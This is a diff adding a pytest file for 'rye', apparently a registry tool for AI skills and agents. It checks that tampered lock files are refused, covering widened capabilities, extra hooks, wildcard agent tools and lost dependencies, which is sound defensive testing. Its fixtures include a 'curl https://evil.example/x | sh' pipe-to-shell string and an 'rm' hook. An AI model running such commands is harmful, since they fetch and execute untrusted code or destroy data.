@@ -1,0 +1,319 @@
+"""Locks that are not the whole answer, and approvals that go beyond the item (DESIGN 6.1, Complete and Agreed here)."""
+
+from __future__ import annotations
+
+import shutil
+from collections.abc import Callable
+from functools import cache
+
+import pytest
+from msgspec.structs import replace
+
+from rye.items.identity import Identity
+from rye.items.reading import HookAction, Run
+from rye.project.lock import Lock
+from tests.attacks.hostile_repository.attacks import Attack, Theatre, everywhere, rows
+from tests.attacks.hostile_repository.clones import Clone, Posture
+from tests.attacks.hostile_repository.world import (
+    AGENT,
+    BUNDLE,
+    CHECK,
+    DEPLOY,
+    ENEMY,
+    KNOWLEDGE,
+    LINT,
+    NEEDY,
+    REVIEW,
+    SKILL,
+    WIDE,
+    World,
+)
+from tests.cli.running import Program
+from tests.registry.simulated_registry import key
+
+Act = Callable[[Clone], object]
+
+
+def row(identity: Identity, **words: object) -> Act:
+    return lambda clone: clone.edit_row(identity, **words)
+
+
+def lost(identity: Identity) -> Act:
+    """As git merges two branches without a conflict: the row is gone, and its file."""
+
+    def act(clone: Clone) -> None:
+        clone.file_of(identity).unlink()
+        clone.drop_row(identity)
+
+    return act
+
+
+def lost_row(clone: Clone) -> None:
+    """The file stays, so that it looks like one that a person added."""
+    clone.drop_row(CHECK)
+
+
+@cache
+def elsewhere(world: World, identity: Identity, version: str) -> Program:
+    """Somebody's own project with one item, whose row and file are real."""
+    made = Program(world.base / f"elsewhere-{identity.local_id.replace('/', '-')}-{version}")
+    shutil.rmtree(made.home)
+    home = world.home_of("pinned")
+    assert home is not None
+    shutil.copytree(home, made.home)
+    made.write(
+        "rye.toml",
+        f'[project]\nregistry = "{world.url}"\n[environment]\nprovides = ["docker"]\n'
+        f'[dependencies]\n"{identity}" = "={version}"\n',
+    )
+    made.ok("install", "--yes")
+    return made
+
+
+def brought(identity: Identity, version: str = "1.0.0", *, wanted: bool = False) -> Act:
+    """A real row and its signed file from another project. ``wanted``: rye.toml asks for it, too."""
+
+    def act(clone: Clone) -> None:
+        from rye.installation.placement import item_path
+        from rye.project.lock import parse_lock
+
+        other = elsewhere(clone.world, identity, version)
+        found = parse_lock(other.path("rye.lock").read_text()).find(identity)
+        assert found is not None
+        lock, words = clone.lock, {}
+        if wanted:
+            words = {str(identity): "*"}
+            clone.manifest(lambda text: text.replace("[dependencies]\n", f'[dependencies]\n"{identity}" = "*"\n'))
+        items = (*(one for one in lock.items if one.identity != identity), found)
+        clone.put_lock(Lock({**lock.wanted, **words}, items))
+        clone.write(item_path(found), other.path(item_path(found)).read_bytes())
+
+    return act
+
+
+def asks_for(wanted: str, *, manifest: bool) -> Act:
+    """``[wanted]`` of the lock, and rye.toml too, say another range."""
+
+    def act(clone: Clone) -> None:
+        clone.put_lock(replace(clone.lock, wanted={**clone.lock.wanted, str(DEPLOY): wanted}))
+        if manifest:
+            clone.manifest(lambda text: text.replace('deploy" = "^1.0.0"', f'deploy" = "{wanted}"'))
+
+    return act
+
+
+def emptied(clone: Clone) -> None:
+    clone.put_lock(Lock({}, ()))
+    clone.without_files()
+
+
+def one_hook_more(clone: Clone) -> None:
+    more = HookAction("true", "tool", "shell/run", (("command", "rm"),))
+    clone.edit_row(DEPLOY, approved_hooks=(*clone.row(DEPLOY).hooks, more))
+
+
+def other_hook_inputs(clone: Clone) -> None:
+    [hook] = clone.row(DEPLOY).hooks
+    clone.edit_row(DEPLOY, approved_hooks=(hook, replace(hook, inputs=(("amount", "1000"),))))
+
+
+def one_run_more(clone: Clone) -> None:
+    more = Run("attached-file", "scripts/more.sh", "#!/bin/sh, executable", "0" * 64)
+    clone.edit_row(SKILL, approved_runs=(*clone.row(SKILL).runs, more))
+
+
+def runs_of_other_bytes(clone: Clone) -> None:
+    runs = clone.row(SKILL).runs
+    clone.edit_row(SKILL, approved_runs=(*runs, *(replace(one, sha256="0" * 64) for one in runs)))
+
+
+def one_alarm_more(clone: Clone) -> None:
+    """An alarm that the next version would bring is approved before anybody saw it."""
+    more = "pipe-to-shell curl https://evil.example/x | sh"
+    clone.edit_row(SKILL, approved_facts=tuple(sorted((*clone.row(SKILL).approved_facts, more))))
+
+
+def broken(rule: str, repair: str = "ok") -> dict[str, str]:
+    """Of a lock that breaks a rule, over items that are genuine: readers may hand those out."""
+    return {"install": "lock-does-not-fit", "repair": repair, "audit": f"{rule}|lock-does-not-fit", "check": rule}
+
+
+def beyond(name: str, act: Act, item: Identity = DEPLOY) -> Attack:
+    """An approval of what the item does not have."""
+    return Attack(name, act, broken("G5"), item, postures=("given", "member"))
+
+
+BEYOND = (
+    beyond("rye.* is approved for an item with few rights", row(DEPLOY, approved_capabilities=("rye.*",))),
+    beyond(
+        "rye.* is approved for what the next version asks",
+        row(WIDE, approved_capabilities=("rye.execute.*", "rye.search.tool.*")),
+        WIDE,
+    ),
+    beyond(
+        "a right in a wider spelling is approved",
+        row(DEPLOY, approved_capabilities=("rye.execute.tool.shell.*", "rye.search.tool.*")),
+    ),
+    beyond("a hook that the item does not have is approved", one_hook_more),
+    beyond("a hook with other inputs is approved", other_hook_inputs),
+    beyond("a run that the skill does not have is approved", one_run_more, SKILL),
+    beyond("runs of other bytes are approved", runs_of_other_bytes, SKILL),
+    beyond("an alarm that the skill does not have is approved", one_alarm_more, SKILL),
+    beyond(
+        "an alarm is approved for an item without any", row(CHECK, approved_facts=("pipe-to-shell curl x | sh",)), CHECK
+    ),
+    beyond(
+        "a tool that the agent does not ask for is approved", row(AGENT, approved_tools=("Bash", "Edit", "Read")), AGENT
+    ),
+    beyond("every tool is approved for an agent", row(AGENT, approved_tools=("*",), approved_limits=()), AGENT),
+    beyond("an agent's tools are approved without their restrictions", row(AGENT, approved_limits=()), AGENT),
+)
+_ASKED = {"install": "consent-needed", "read": "ok", "check": "ok", "sbom": "ok"}
+LESS = (
+    Attack("a right that is not approved", row(DEPLOY, approved_capabilities=()), _ASKED),
+    Attack("runs that are not approved", row(SKILL, approved_runs=()), {**_ASKED, "repair": "consent-needed"}, SKILL),
+    Attack(
+        "an alarm that is not approved", row(SKILL, approved_facts=()), {**_ASKED, "repair": "consent-needed"}, SKILL
+    ),
+    Attack("tools that are not approved", row(AGENT, approved_tools=(), approved_limits=()), _ASKED, AGENT),
+    Attack("a row that says that nobody approved it", row(DEPLOY, approved_signer=""), _ASKED),
+    Attack(
+        "a row that was approved for another signer",
+        row(DEPLOY, approved_signer=key("thief").public.fingerprint),
+        {**_ASKED, "repair": "consent-needed"},
+    ),
+)
+GRAPH = (
+    Attack("a direct dependency that a merge lost", lost(KNOWLEDGE), broken("G1"), postures=("given", "member")),
+    Attack("a dependency of an item that a merge lost", lost(CHECK), broken("G2"), postures=("given", "member")),
+    Attack("a member of a bundle that a merge lost", lost(LINT), broken("G2"), BUNDLE),
+    Attack(
+        "a row that is gone while its file stays",
+        lost_row,
+        {**broken("G2"), "install": "lock-does-not-fit|edited-files"},
+    ),
+    Attack("dependencies that were emptied", row(DEPLOY, dependencies=()), broken("G2"), postures=("given", "member")),
+    Attack("dependencies that the release has not", row(DEPLOY, dependencies=(str(CHECK), str(WIDE))), broken("G2")),
+    Attack("a dependency out of its range", brought(CHECK, "2.0.0"), broken("G2")),
+    Attack("a main item in a group that ci may leave out", row(CHECK, groups=("dev",)), broken("G3")),
+    Attack("a group's item among the main ones", row(REVIEW, groups=("main",)), broken("G3")),
+    Attack("a group that nobody declared", row(REVIEW, groups=("prod",)), broken("G3")),
+    Attack("an item that nobody needs, genuine and signed", brought(ENEMY), broken("G4"), postures=("given", "member")),
+    Attack("two items that exclude each other", brought(ENEMY, wanted=True), broken("G6", repair="lock-does-not-fit")),
+    Attack("a range in the lock that rye.toml does not have", asks_for("^2", manifest=False), broken("G1")),
+    Attack(
+        "a range in both that the locked version is out of",
+        asks_for("^2", manifest=True),
+        broken("G1", repair="unsolvable"),
+    ),
+    Attack(
+        "a feature that the project does not provide",
+        brought(NEEDY, wanted=True),
+        broken("G2|G6", repair="unsolvable"),
+    ),
+    Attack(
+        "a lock with nothing in it",
+        emptied,
+        {
+            "install": "lock-does-not-fit",
+            "repair": "consent-needed",
+            "audit": "G1",
+            "check": "G1",
+            "read": "no-such-item",
+        },
+    ),
+    Attack(
+        "a rye.toml that wants nothing any more",
+        lambda clone: clone.manifest(lambda text: text[: text.index("[dependencies]")]),
+        {"install": "lock-does-not-fit", "audit": "G4", "check": "G4", "read": "ok"},
+    ),
+    Attack(
+        "a lock that is gone",
+        lambda clone: clone.path("rye.lock").unlink(),
+        everywhere("not-locked", install="no-lock", repair="edited-files", audit="G1", check="G1", list="", sbom="ok"),
+    ),
+    Attack(
+        "a rye.toml that is gone",
+        lambda clone: clone.path("rye.toml").unlink(),
+        everywhere(
+            "unverified-item",
+            install="no-manifest",
+            repair="no-manifest",
+            audit="no-manifest",
+            check="no-manifest",
+            list="unverified",
+        ),
+    ),
+)
+
+
+@pytest.mark.parametrize(("attack", "posture"), rows(BEYOND))
+def test_an_approval_beyond_the_item_installs_nothing(theatre: Theatre, attack: Attack, posture: Posture) -> None:
+    theatre.perform(attack, posture)
+
+
+@pytest.mark.parametrize(("attack", "posture"), rows(LESS))
+def test_trusting_the_lock_agrees_to_nothing_more_than_it_approves(
+    theatre: Theatre, attack: Attack, posture: Posture
+) -> None:
+    theatre.perform(attack, posture)
+
+
+@pytest.mark.parametrize(("attack", "posture"), rows(GRAPH))
+def test_an_incomplete_lock_installs_nothing(theatre: Theatre, attack: Attack, posture: Posture) -> None:
+    theatre.perform(attack, posture)
+
+
+@pytest.mark.parametrize(
+    "act",
+    [None, *(one.act for one in BEYOND)],
+    ids=["the honest lock", *(one.name for one in BEYOND)],
+)
+def test_a_visitor_is_asked_before_anything_else(theatre: Theatre, act: Act | None) -> None:
+    """Whatever a lock approves: nobody who pinned the registry and agreed to nothing installs from it."""
+    clone = theatre.clone("visitor")
+    if act is not None:
+        act(clone)
+    clone.without_files()
+    for words in (("ci", "--yes"), ("install", "--yes")):
+        refused = clone.read(*words)
+        assert refused.code == 1
+        assert refused.error["code"] in ("project-not-accepted", "lock-does-not-fit")
+    assert not clone.path(".ai/packages").exists()
+
+
+class TestAMemberWhoAgreed:
+    """Somebody who agreed to the honest project pulls a hostile commit. ``RYE_TRUST_LOCK`` is not set."""
+
+    @pytest.fixture
+    def member(self, theatre: Theatre) -> Clone:
+        return theatre.agreed()
+
+    def test_pulls_and_goes_on(self, member: Clone) -> None:
+        for words in (("ci",), ("install",), ("render", str(DEPLOY)), ("lock", "--check")):
+            member.ok(*words)
+
+    def test_is_asked_about_a_version_with_wider_rights(self, member: Clone) -> None:
+        """Genuine, signed, in range, approved in the lock by whoever committed it."""
+        brought(WIDE, "1.1.0")(member)
+        before = member.path("rye.lock").read_bytes()
+        for words in (("ci",), ("ci", "--yes"), ("install", "--yes"), ("install", "--frozen", "--yes")):
+            refused = member.read(*words)
+            assert refused.error["code"] == "project-not-accepted", words
+            assert [one["value"] for one in refused.error["approvals"]] == ["rye.execute.*"]
+        assert member.path("rye.lock").read_bytes() == before
+
+    def test_is_asked_about_a_hook_that_was_approved_by_a_commit(self, member: Clone) -> None:
+        honest = member.row(DEPLOY).approved_hooks
+        member.edit_row(DEPLOY, approved_hooks=())
+        member.ok("ci")
+        member.edit_row(DEPLOY, approved_hooks=honest)
+        member.ok("ci")  # it was agreed to before
+
+    def test_executes_no_hook_that_only_a_commit_approved(self, theatre: Theatre) -> None:
+        visitor = theatre.clone("visitor")
+        found = visitor.ok("hooks", "eval", DEPLOY.id, "--context", "context.json", "--json").json
+        assert (found["actions"], [one["reason"] for one in found["skipped"]]) == ([], ["it is not approved here"])
+        member = theatre.agreed()
+        found = member.ok("hooks", "eval", DEPLOY.id, "--context", "context.json", "--json").json
+        assert len(found["actions"]) == 1
